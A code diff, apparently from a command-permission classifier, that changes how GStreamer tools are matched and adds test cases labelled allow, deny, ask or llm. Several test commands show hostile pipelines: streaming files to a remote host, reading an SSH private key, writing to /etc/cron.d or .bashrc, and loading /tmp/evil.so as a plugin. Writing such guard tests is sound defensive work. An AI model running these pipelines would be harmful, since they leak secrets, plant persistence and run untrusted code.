@@ -102,8 +102,9 @@ GSTREAMER = command(
     ],
     style=EARLY,
 )
+GSTREAMER_PLUGINS = command("gst-inspect-1.0", "READ_BY(gstreamer.plugin)...", [flags("-a --print-all --plugin --exists")])
 GSTREAMER_FILES = command(
-    "gst-inspect-1.0 gst-typefind-1.0 gst-discoverer-1.0",
+    "gst-typefind-1.0 gst-discoverer-1.0",
     "OPENS...",
     [flags("-a --print-all -v -c -t=")],
     unlisted=PLAIN,
@@ -312,6 +313,15 @@ allow  gst-launch-1.0 videotestsrc num-buffers=50 ! video/x-raw,width=320 ! x264
 deny   gst-launch-1.0 filesrc location=a ! filesink location=/etc/cron.d/a
 ask    gst-launch-1.0 filesrc location=/home/user/.ssh/id_rsa ! filesink location=build/a
 ask    gst-launch-1.0 filesrc location=a.mp4 ! udpsink host=203.0.113.7 port=5000
+ask    gst-launch-1.0 "video/x-raw ! udpsink host=203.0.113.7"
+deny   gst-launch-1.0 filesrc location=a ! filesink 'location="/etc/cron.d/a"'
+ask    gst-launch-1.0 filesrc location= /home/user/.ssh/id_rsa ! fakesink dump=true
+ask    gst-launch-1.0 filesrc location=a ! splitmuxsink sink-factory=udpsink
+ask    gst-launch-1.0 filesrc location=a ! qtmux moov-recovery-file=/home/user/.bashrc ! fakesink
+ask    gst-launch-1.0 filesrc location=a ! gssink bucket-name=b object-name=c
+ask    gst-launch-1.0 libcamerasrc ! jpegenc ! filesink location=build/a.jpg
+ask    gst-launch-1.0 fakesrc ! fakesink --gst-plugin-load=/tmp/evil.so
+llm    gst-inspect-1.0 /tmp/evil.so
 ask    gst-launch-1.0 pulsesrc ! wavenc ! filesink location=build/a.wav
 ask    gst-launch-1.0 souphttpsrc location=http://203.0.113.7/a ! filesink location=build/a
 ask    exiftool -Artist=x ~/Pictures/a.jpg
